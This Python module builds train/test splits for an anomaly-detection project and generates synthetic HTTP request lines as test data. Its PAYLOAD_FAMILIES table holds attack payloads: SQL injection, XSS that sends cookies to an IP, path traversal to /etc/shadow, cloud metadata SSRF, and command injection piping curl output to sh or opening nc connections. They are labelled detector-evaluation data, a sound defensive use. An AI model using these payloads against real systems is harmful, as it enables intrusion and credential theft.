"""Loaders that turn the dev datasets (../shared/datasets) into train/test splits.

Each split is fixed by the issue so quality numbers are comparable across detectors and runs:

- ``emotion``: train on the *train* split's ``joy``, ``sadness``, ``anger`` tweets; test on the
  whole *test* split, where ``fear``, ``love``, ``surprise`` are the anomalies (the Apache Beam
  example's setup).
- ``bgl``: BGL_2k in file order; train on the normal lines (first field ``-``) of the first 1,000
  lines; test on all of lines 1,001-2,000, where any first field other than ``-`` (an alert tag) is
  an anomaly. The label field is never part of the text.
- ``sms``: the UCI SMS Spam Collection; the ham messages are shuffled with
  ``numpy.random.default_rng(0)`` and split 80/20; train on the 80 % ham, test on the 20 % ham plus
  every spam message.
- ``clinc150``: the out-of-scope benchmark of CLINC150: train on the *train* split's 150 in-scope
  intents, test on the whole *test* split, where ``oos`` requests are the anomalies.
- ``clinc150-domains``: topic novelty: three of the ten domains (``domains.json``, sorted, the
  three picked by ``numpy.random.default_rng(0)``) are held out; train on the other seven domains'
  in-scope *train* requests, test on every in-scope *test* request, where the held-out domains are
  the anomalies (``oos`` is left out: it is neither).
- ``logs``: cross-system novelty: Thunderbird and HDFS lines are normal; train on the first half of
  each file (file order = time; the two interleaved line by line), test on the second halves plus
  BGL's lines 1,001-2,000, which are the anomalies (another system's lines). The text is the
  whole line without BGL/Thunderbird's label field.
- ``payloads``: HTTP request lines whose parameter values are benign or attack payloads, made by a
  stated, seeded generator (``payload_requests``) from data in the repository: eight request
  templates (search, product, e-mail change, download, orders, redirect, cart, profile) filled
  with benign values — CLINC150 requests as search queries, words of CLINC150 as user names,
  e-mail local parts and URL segments, file paths found in the BGL and Thunderbird logs, numbers,
  dates. Train on 4,000 benign lines; test on 1,000 other benign lines and 500 lines where one
  parameter value is replaced by a payload of one of five families (SQL injection, XSS, path
  traversal, remote include / SSRF, command injection), a quarter of them percent-encoded.
  Masking merges most benign values and turns traversals into ``<PATH>`` and injected URLs into
  ``<URL>``: the set measures whether masking can blind the detector (issue 19).
- ``payload-values``: the same generated requests, but each record is only the value of one
  parameter (uniformly chosen; for the 500 attack records the payload): benign values (numbers,
  e-mail addresses, dates, paths, URLs, queries, user names) against SQL injection, XSS,
  traversal, remote include and command injection payloads, as a web application firewall's
  parameter log holds them.

Records are plain dicts of string fields so the project's ``TextPreparation.extract`` (dotted
field paths) turns them into the text that is embedded, exactly as ``train`` would from JSONL.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import numpy as np
import numpy.typing as npt

Record = dict[str, str]

#: BGL line layout (loghub): alert tag or "-", unix time, date, node, time, node again,
#: then type (RAS), component (KERNEL, APP, ...), level (INFO, FATAL, ...) and the free-text message.
BGL_FIELDS = (
    "label",
    "unix_time",
    "date",
    "node",
    "time",
    "node_repeat",
    "type",
    "component",
    "level",
    "message",
)

DATASET_NAMES = (
    "emotion",
    "bgl",
    "sms",
    "clinc150",
    "clinc150-domains",
    "logs",
    "payloads",
    "payload-values",
)
#: sets whose input order is time (the test part is later than the training part).
TIME_ORDERED = ("bgl", "logs")


@dataclass(frozen=True)
class DevSplit:
    """One dataset's normal training records and labelled test records.

    ``train_labels`` are the normal classes of the training records (what ``--label-field`` gives
    ``train``); ``test_is_anomaly`` is the ground truth for the test records.
    """

    name: str
    train_records: list[Record]
    train_labels: list[str]
    test_records: list[Record]
    test_labels: list[str]
    normal_labels: tuple[str, ...]
    #: the fields that carry the event's meaning, in the order they are joined into the text.
    text_fields: tuple[str, ...]

    @property
    def test_is_anomaly(self) -> npt.NDArray[np.bool_]:
        normal = set(self.normal_labels)
        return np.array([label not in normal for label in self.test_labels], dtype=bool)


def parse_bgl_line(line: str) -> Record:
    """Split one loghub BGL line into ``BGL_FIELDS``; a missing message becomes ""."""
    parts = line.rstrip("\n").split(maxsplit=len(BGL_FIELDS) - 1)
    if len(parts) < len(BGL_FIELDS) - 1:
        raise ValueError(f"not a BGL log line (expected at least {len(BGL_FIELDS) - 1} fields): {line!r}")
    parts += [""] * (len(BGL_FIELDS) - len(parts))
    return dict(zip(BGL_FIELDS, parts, strict=True))


def _read_jsonl(path: Path) -> list[Mapping[str, str]]:
    with path.open(encoding="utf-8") as fh:
        return [json.loads(line) for line in fh if line.strip()]


def _text_split(
    name: str, train: list[Mapping[str, str]], test: list[Mapping[str, str]], normal: tuple[str, ...]
) -> DevSplit:
    """A split of ``{"text", "label"}`` rows: the text is the record, the label only ground truth."""
    return DevSplit(
        name=name,
        train_records=[{"text": r["text"]} for r in train],
        train_labels=[r["label"] for r in train],
        test_records=[{"text": r["text"]} for r in test],
        test_labels=[r["label"] for r in test],
        normal_labels=normal,
        text_fields=("text",),
    )


def load_emotion(datasets_dir: Path) -> DevSplit:
    normal = ("joy", "sadness", "anger")
    train = [r for r in _read_jsonl(datasets_dir / "emotion" / "train.jsonl") if r["label"] in normal]
    return _text_split("emotion", train, _read_jsonl(datasets_dir / "emotion" / "test.jsonl"), normal)


def load_bgl(datasets_dir: Path) -> DevSplit:
    with (datasets_dir / "bgl_2k" / "BGL_2k.log").open(encoding="utf-8", errors="replace") as fh:
        records = [parse_bgl_line(line) for line in fh if line.strip()]
    half = len(records) // 2
    first, second = records[:half], records[half:]
    train = [r for r in first if r["label"] == "-"]
    # The label field is ground truth, never input: strip it from what the detector may see.
    return DevSplit(
        name="bgl",
        train_records=[_without_label(r) for r in train],
        train_labels=["-"] * len(train),
        test_records=[_without_label(r) for r in second],
        test_labels=[r["label"] for r in second],
        normal_labels=("-",),
        text_fields=("component", "level", "message"),
    )


def _without_label(record: Record) -> Record:
    return {k: v for k, v in record.items() if k != "label"}


def load_sms(datasets_dir: Path, *, seed: int = 0, train_fraction: float = 0.8) -> DevSplit:
    with (datasets_dir / "sms_spam" / "SMSSpamCollection").open(encoding="utf-8", newline="") as fh:
        rows = [row for row in csv.reader(fh, delimiter="\t", quoting=csv.QUOTE_NONE) if row]
    if rows and rows[0] == ["Label", "SMS"]:
        rows = rows[1:]
    ham = [row[1] for row in rows if row[0] == "ham"]
    spam = [row[1] for row in rows if row[0] == "spam"]
    order = np.random.default_rng(seed).permutation(len(ham))
    cut = round(train_fraction * len(ham))
    train = [ham[i] for i in order[:cut]]
    test_ham = [ham[i] for i in order[cut:]]
    return DevSplit(
        name="sms",
        train_records=[{"text": t} for t in train],
        train_labels=["ham"] * len(train),
        test_records=[{"text": t} for t in test_ham + spam],
        test_labels=["ham"] * len(test_ham) + ["spam"] * len(spam),
        normal_labels=("ham",),
        text_fields=("text",),
    )


def load_clinc150(datasets_dir: Path) -> DevSplit:
    train = [r for r in _read_jsonl(datasets_dir / "clinc150" / "train.jsonl") if r["label"] != "oos"]
    test = _read_jsonl(datasets_dir / "clinc150" / "test.jsonl")
    return _text_split("clinc150", train, test, tuple(sorted({r["label"] for r in train})))


def held_out_clinc_domains(datasets_dir: Path, n: int = 3) -> tuple[str, ...]:
    """The ``n`` CLINC150 domains ``clinc150-domains`` treats as novel (seeded, reproducible)."""
    domains = sorted(json.loads((datasets_dir / "clinc150" / "domains.json").read_text(encoding="utf-8")))
    order = np.random.default_rng(0).permutation(len(domains))
    return tuple(sorted(domains[i] for i in order[:n]))


def load_clinc150_domains(datasets_dir: Path) -> DevSplit:
    domains: dict[str, list[str]] = json.loads(
        (datasets_dir / "clinc150" / "domains.json").read_text(encoding="utf-8")
    )
    novel = set(held_out_clinc_domains(datasets_dir))
    domain_of = {intent: d for d, intents in domains.items() for intent in intents}
    normal = tuple(sorted(i for i, d in domain_of.items() if d not in novel))
    train = [r for r in _read_jsonl(datasets_dir / "clinc150" / "train.jsonl") if r["label"] in normal]
    test = [r for r in _read_jsonl(datasets_dir / "clinc150" / "test.jsonl") if r["label"] != "oos"]
    return _text_split("clinc150-domains", train, test, normal)


def _log_lines(path: Path, *, labelled: bool) -> list[str]:
    """Non-empty lines of a loghub sample, without the label field where the format has one."""
    with path.open(encoding="utf-8", errors="replace") as fh:
        lines = [line.rstrip("\n") for line in fh if line.strip()]
    return [line.split(maxsplit=1)[1] if labelled else line for line in lines]


def _interleave(a: list[tuple[str, str]], b: list[tuple[str, str]]) -> list[tuple[str, str]]:
    out = [x for pair in zip(a, b, strict=False) for x in pair]
    return out + a[len(b) :] + b[len(a) :]


def load_logs(datasets_dir: Path) -> DevSplit:
    thunderbird = _log_lines(datasets_dir / "thunderbird_2k" / "Thunderbird_2k.log", labelled=True)
    hdfs = _log_lines(datasets_dir / "hdfs_2k" / "HDFS_2k.log", labelled=False)
    bgl = _log_lines(datasets_dir / "bgl_2k" / "BGL_2k.log", labelled=True)
    # The two systems' halves are interleaved line by line, as one stream of both would arrive.
    t_half, h_half = len(thunderbird) // 2, len(hdfs) // 2
    train = _interleave(
        [(line, "thunderbird") for line in thunderbird[:t_half]], [(line, "hdfs") for line in hdfs[:h_half]]
    )
    test = _interleave(
        [(line, "thunderbird") for line in thunderbird[t_half:]], [(line, "hdfs") for line in hdfs[h_half:]]
    )
    test += [(line, "bgl") for line in bgl[len(bgl) // 2 :]]
    return DevSplit(
        name="logs",
        train_records=[{"line": line} for line, _ in train],
        train_labels=[system for _, system in train],
        test_records=[{"line": line} for line, _ in test],
        test_labels=[system for _, system in test],
        normal_labels=("hdfs", "thunderbird"),
        text_fields=("line",),
    )


#: request templates of ``payloads``: ``{kind}`` is a parameter value drawn by ``_benign_value``.
PAYLOAD_TEMPLATES = (
    "GET /search?q={query}&page={page}",
    "GET /products/{id}?ref={url}",
    "POST /account/email?address={email}",
    "GET /download?file={path}",
    "GET /orders?from={date}&to={date}&limit={limit}",
    "GET /redirect?next={url}",
    "GET /cart/add?item={id}&qty={qty}",
    "GET /profile?user={user}&lang={lang}",
)
#: attack payloads by family; ``{v}`` is the benign value they replace, ``{n}`` a number, ``{w}`` a
#: word, ``{ip}`` an address, ``{k}`` a repeat count, ``{target}`` a file traversals reach for.
PAYLOAD_FAMILIES: dict[str, tuple[str, ...]] = {
    "sqli": (
        "{v}' OR '1'='1",
        "{v}' OR 1=1-- ",
        "{n} UNION SELECT username, password FROM users--",
        "{n} UNION SELECT null, table_name FROM information_schema.tables--",
        "{v}'; DROP TABLE {w};--",
        "{n} AND SLEEP({k})",
        '{v}" AND 1=CONVERT(int, @@version)--',
        "admin'--",
    ),
    "xss": (
        "<script>alert({n})</script>",
        "\"><img src=x onerror=alert('{w}')>",
        "javascript:alert(document.cookie)",
        "<svg/onload=fetch('//{ip}/'+document.cookie)>",
        "{v}<iframe src=javascript:alert({n})>",
    ),
    "traversal": (
        "{dots}{target}",
        "{encoded_dots}{encoded_target}",
        "/var/www/{w}/{dots}{target}",
        "{double_dots}{target}",
    ),
    "remote": (
        "http://{ip}/{w}.txt?",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/{w}",
        "file:///etc/passwd",
        "http://localhost:{port}/admin/{w}",
        "gopher://127.0.0.1:6379/_{w}",
    ),
    "command": (
        "{v}; cat /etc/passwd",
        "{v} | nc {ip} {port}",
        "$(curl http://{ip}/{w}.sh | sh)",
        "{v}`id`",
        "{v} && wget http://{ip}/x -O /tmp/{w}",
    ),
}
_TRAVERSAL_TARGETS = ("etc/passwd", "etc/shadow", "proc/self/environ", "var/www/.env", "windows/win.ini")
_IP_OCTETS = ((11, 223), (0, 256), (0, 256), (1, 255))
_PAYLOAD_FIELD = re.compile(r"\{(\w+)\}")
_LOG_PATH = re.compile(r"(?<![\w.~/])(?:/[\w.@%+=,-]+)+/?")


def payload_requests(
    datasets_dir: Path, *, n_benign: int, n_attacks: int, seed: int = 0
) -> tuple[list[tuple[str, str]], list[tuple[str, str]]]:
    """``n_benign`` benign and ``n_attacks`` attack ``(request line, parameter value)`` pairs: the
    generator of ``payloads`` (the lines) and ``payload-values`` (the values).

    Each line fills one of ``PAYLOAD_TEMPLATES`` (uniformly chosen) with benign values and picks
    one of its parameters uniformly; an attack line replaces that parameter's value by a payload
    of a uniformly chosen family and template of ``PAYLOAD_FAMILIES``, percent-encoded
    (``quote``, ``/`` and ``:`` kept) with probability 1/4. The value is that parameter's value as
    it appears in the line. Deterministic for a seed.
    """
    rng = np.random.default_rng(seed)
    requests = [
        str(r["text"]) for r in _read_jsonl(datasets_dir / "clinc150" / "train.jsonl") if r["label"] != "oos"
    ]
    words = sorted({w for text in requests for w in re.findall(r"[a-z]{3,}", text.lower())})
    paths: list[str] = []
    for rel in ("bgl_2k/BGL_2k.log", "thunderbird_2k/Thunderbird_2k.log"):
        text = (datasets_dir / rel).read_text(encoding="utf-8", errors="replace")
        paths += sorted({m.group(0) for m in _LOG_PATH.finditer(text)})

    def pick(options: Sequence[str]) -> str:
        return options[int(rng.integers(len(options)))]

    def word() -> str:
        return pick(words)

    def benign(kind: str) -> str:
        if kind == "query":
            return "+".join(pick(requests).split())
        if kind in ("page", "qty"):
            return str(int(rng.integers(1, 50 if kind == "page" else 10)))
        if kind == "id":
            return str(int(rng.integers(1_000, 10_000_000)))
        if kind == "url":
            host = pick(("shop.example.com", "www.example.org", "blog.example.net"))
            return f"https://{host}/{word()}/{word()}"
        if kind == "email":
            return f"{word()}.{word()}{int(rng.integers(1, 99))}@{pick(('example.com', 'mail.example.org'))}"
        if kind == "path":
            if rng.random() < 0.5:
                return pick(paths)
            return pick((f"/img/{word()}-{int(rng.integers(1, 999))}.png", f"/docs/{word()}/{word()}.pdf"))
        if kind == "date":
            return f"2026-{int(rng.integers(1, 13)):02d}-{int(rng.integers(1, 29)):02d}"
        if kind == "limit":
            return pick(("10", "20", "50", "100"))
        if kind == "user":
            return f"{word()}{int(rng.integers(1, 999))}"
        if kind == "lang":
            return pick(("en", "de", "fr", "es", "it"))
        raise ValueError(f"unknown payload value kind {kind!r}")

    def attack(value: str) -> str:
        family = pick(sorted(PAYLOAD_FAMILIES))
        k = int(rng.integers(2, 7))
        target = pick(_TRAVERSAL_TARGETS)
        fill = {
            "v": value,
            "n": str(int(rng.integers(1, 1000))),
            "w": word(),
            "ip": ".".join(str(int(rng.integers(low, high))) for low, high in _IP_OCTETS),
            "port": str(int(rng.integers(1024, 65536))),
            "k": str(k),
            "dots": "../" * k,
            "double_dots": "....//" * k,
            "encoded_dots": "..%2f" * k,
            "target": target,
            "encoded_target": target.replace("/", "%2f"),
        }
        payload = _PAYLOAD_FIELD.sub(lambda m: fill[m.group(1)], pick(PAYLOAD_FAMILIES[family]))
        return quote(payload, safe="/:") if rng.random() < 0.25 else payload

    def line(malicious: bool) -> tuple[str, str]:
        template = pick(PAYLOAD_TEMPLATES)
        fields = list(_PAYLOAD_FIELD.finditer(template))
        target = int(rng.integers(len(fields)))
        out, last, chosen = [], 0, ""
        for i, m in enumerate(fields):
            value = benign(m.group(1))
            if i == target:
                value = chosen = attack(value) if malicious else value
            out += [template[last : m.start()], value]
            last = m.end()
        return "".join([*out, template[last:]]), chosen

    benign_lines = [line(False) for _ in range(n_benign)]
    return benign_lines, [line(True) for _ in range(n_attacks)]


def _load_payloads(datasets_dir: Path, name: str, part: int) -> DevSplit:
    pairs, attack_pairs = payload_requests(datasets_dir, n_benign=5_000, n_attacks=500)
    benign, attacks = [p[part] for p in pairs], [p[part] for p in attack_pairs]
    train, test_benign = benign[:4_000], benign[4_000:]
    return DevSplit(
        name=name,
        train_records=[{"text": t} for t in train],
        train_labels=["benign"] * len(train),
        test_records=[{"text": t} for t in test_benign + attacks],
        test_labels=["benign"] * len(test_benign) + ["attack"] * len(attacks),
        normal_labels=("benign",),
        text_fields=("text",),
    )


def load_payloads(datasets_dir: Path) -> DevSplit:
    return _load_payloads(datasets_dir, "payloads", 0)


def load_payload_values(datasets_dir: Path) -> DevSplit:
    return _load_payloads(datasets_dir, "payload-values", 1)


def load(name: str, datasets_dir: Path) -> DevSplit:
    """Load one dev split by name (one of ``DATASET_NAMES``)."""
    loaders = {
        "emotion": load_emotion,
        "bgl": load_bgl,
        "sms": load_sms,
        "clinc150": load_clinc150,
        "clinc150-domains": load_clinc150_domains,
        "logs": load_logs,
        "payloads": load_payloads,
        "payload-values": load_payload_values,
    }
    if name not in loaders:
        raise ValueError(f"unknown dev dataset {name!r}; choose one of {', '.join(DATASET_NAMES)}")
    return loaders[name](datasets_dir)
